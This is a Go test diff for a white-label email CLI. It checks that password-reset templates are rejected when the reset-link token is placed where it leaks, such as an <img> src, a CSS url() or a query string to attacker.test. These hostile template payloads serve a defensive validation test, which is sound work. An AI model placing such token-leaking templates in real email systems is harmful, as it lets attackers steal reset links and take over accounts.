@@ -77,6 +77,42 @@ func TestWhitelabelEmail(t *testing.T) {
 	mustMatch(t, c.ok("whitelabel", "email", "show", "acme", "welcome"), `^Template: welcome \(default\)$`)
 }
 
+// The operator's command applies the same link rules as the portal: the
+// reset link only as a link's whole address, never where a mail reader
+// would send it elsewhere.
+func TestWhitelabelEmailLinkRules(t *testing.T) {
+	t.Parallel()
+	c := newCLI(t, pgtest.NewURLs(t))
+	c.ok("tenant", "create", "Acme", "--slug", "acme")
+	for _, tc := range []struct {
+		name, html, subject, text, want string
+	}{
+		{"img", `<img src="https://attacker.test/p.gif?u={{ACTION_URL}}">`, "", "",
+			`^error: \{\{ACTION_URL\}\} on line 1 is in the src attribute of <img>: it may only be the whole address of a link`},
+		{"angle spelling", `<p style="background:url(<< ACTION_URL >>)">x</p>`, "", "", `in the style attribute of <p>`},
+		{"parameter", `<a href="https://attacker.test/?u={{ACTION_URL}}">x</a>`, "", "", `part of a longer address`},
+		{"subject", `<a href="{{ACTION_URL}}">x</a>`, "Reset {{ACTION_URL}}", "", `^error: the subject cannot hold \{\{ACTION_URL\}\}`},
+		{"text", `<a href="{{ACTION_URL}}">x</a>`, "", "https://attacker.test/?u={{ACTION_URL}}\n", `plain-text body is joined to other text`},
+	} {
+		args := []string{"whitelabel", "email", "customize", "acme", "password_reset", "--template-file", writeFile(t, tc.name+".html", tc.html)}
+		if tc.subject != "" {
+			args = append(args, "--subject", tc.subject)
+		}
+		if tc.text != "" {
+			args = append(args, "--text-file", writeFile(t, tc.name+".txt", tc.text))
+		}
+		r := c.run("", args...)
+		if r.code != 1 || strings.Count(r.err, "\n") != 1 {
+			t.Errorf("%s: exit %d, stderr %q", tc.name, r.code, r.err)
+		}
+		mustMatch(t, r.err, tc.want)
+	}
+	mustMatch(t, c.ok("whitelabel", "email", "show", "acme", "password_reset"), `^Template: password_reset \(default\)$`)
+	page := writeFile(t, "ok.html", `<p><a href="{{ACTION_URL}}">Choose a new password</a></p>`)
+	c.ok("whitelabel", "email", "customize", "acme", "password_reset", "--template-file", page)
+	mustMatch(t, c.ok("whitelabel", "email", "show", "acme", "password_reset"), `^--- Text ---\nChoose a new password: \{\{ACTION_URL\}\}$`)
+}
+
 // email test sends through the real SMTP server (mailpit); the message is
 // read back through mailpit's API.
 func TestWhitelabelEmailTestThroughSMTP(t *testing.T) {
